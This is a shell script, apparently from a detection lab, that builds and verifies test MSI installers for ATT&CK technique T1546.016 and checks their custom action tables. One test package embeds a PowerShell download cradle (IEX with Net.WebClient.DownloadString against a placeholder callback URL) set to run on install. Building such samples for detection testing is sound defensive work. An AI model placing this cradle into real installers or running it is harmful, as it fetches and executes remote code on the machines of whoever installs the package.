#!/bin/sh
# Builds the lab's T1546.016 test MSIs from their WiX sources with wixl (msitools), patches the
# rows wixl cannot emit with msibuild, and asserts the CustomAction and InstallExecuteSequence
# tables of every package: wixl 0.101 drops unsupported custom actions and misplaces
# After=/Before= scheduling while still exiting 0 (lab-recipes §1.3, §1.4).
# Usage: build-msi.sh OUT_DIR     (sources are read from this script's folder; OUT_DIR is created)
set -eu
SRC=$(cd "$(dirname "$0")" && pwd)
OUT=${1:?usage: build-msi.sh OUT_DIR}
mkdir -p "$OUT"
TMP=$(mktemp -d)
trap 'rm -rf "$TMP"' EXIT
TAB=$(printf '\t')

die() { echo "build-msi.sh: $*" >&2; exit 1; }

# expect_row MSI TABLE ROW: the exported table must contain ROW (tab-separated) as a whole line.
expect_row() {
  msiinfo export "$1" "$2" > "$TMP/table.idt" || die "$1: cannot export table $2"
  # rows may end with empty optional columns (CustomAction.ExtendedType): drop trailing tabs
  tr -d '\r' < "$TMP/table.idt" | sed "s/${TAB}*\$//" | grep -qxF "$3" || {
    echo "build-msi.sh: $1: table $2 lacks the row: $3" >&2
    echo "--- $2 as built:" >&2; tr -d '\r' < "$TMP/table.idt" >&2
    exit 1
  }
}

build() { # build NAME: wixl -a x64 NAME.wxs -> $TMP/NAME.msi (sources resolved relative to $SRC)
  (cd "$SRC" && wixl -a x64 -o "$TMP/$1.msi" "$1.wxs") 2> "$TMP/$1.wixl.err" || {
    cat "$TMP/$1.wixl.err" >&2; die "wixl failed for $1.wxs"; }
}

# Test 1: type 50 (PSEXE property) + 0x40 (ignore exit code) = 114, immediate, sequence 1001.
build t1_powershell_cradle
expect_row "$TMP/t1_powershell_cradle.msi" CustomAction \
  "CA_PowerShellCradle${TAB}114${TAB}PSEXE${TAB}-NoProfile -Command \"IEX (New-Object Net.WebClient).DownloadString('[CALLBACK_URL]')\""
expect_row "$TMP/t1_powershell_cradle.msi" InstallExecuteSequence "CA_PowerShellCradle${TAB}NOT Installed${TAB}1001"

# Test 3: type 50 (CMDEXE property) + 0x40 = 114, immediate, sequence 1001.
build t3_cmd_custom_action
expect_row "$TMP/t3_cmd_custom_action.msi" CustomAction \
  "CA_CmdWriteMarker${TAB}114${TAB}CMDEXE${TAB}/c echo [RUN_MARKER]> C:\\custom_action_test.txt"
expect_row "$TMP/t3_cmd_custom_action.msi" InstallExecuteSequence "CA_CmdWriteMarker${TAB}NOT Installed${TAB}1001"

# Benign vendor package: wixl drops the type-34 row (warning, exit 0); insert it with msibuild:
# 34 (Directory + ExeCommand) + 0x40 (ignore) + 0x400 (deferred) + 0x800 (no impersonation) = 3170.
build benign_vendor_config
CA34="cmd.exe /c configure.cmd /quiet /marker [RUN_MARKER]"
if ! msiinfo export "$TMP/benign_vendor_config.msi" CustomAction | grep -q '^CA_VendorConfigure'; then
  msibuild "$TMP/benign_vendor_config.msi" -q \
    "INSERT INTO \`CustomAction\` (\`Action\`, \`Type\`, \`Source\`, \`Target\`) VALUES ('CA_VendorConfigure', 3170, 'INSTALLDIR', '$CA34')" \
    || die "msibuild could not insert the type-34 custom action"
fi
expect_row "$TMP/benign_vendor_config.msi" CustomAction "CA_VendorConfigure${TAB}3170${TAB}INSTALLDIR${TAB}$CA34"
expect_row "$TMP/benign_vendor_config.msi" InstallExecuteSequence "CA_VendorConfigure${TAB}NOT Installed${TAB}4001"

for m in t1_powershell_cradle t3_cmd_custom_action benign_vendor_config; do
  mv -f "$TMP/$m.msi" "$OUT/$m.msi"
done
echo "build-msi.sh: built and verified t1_powershell_cradle.msi t3_cmd_custom_action.msi benign_vendor_config.msi in $OUT"
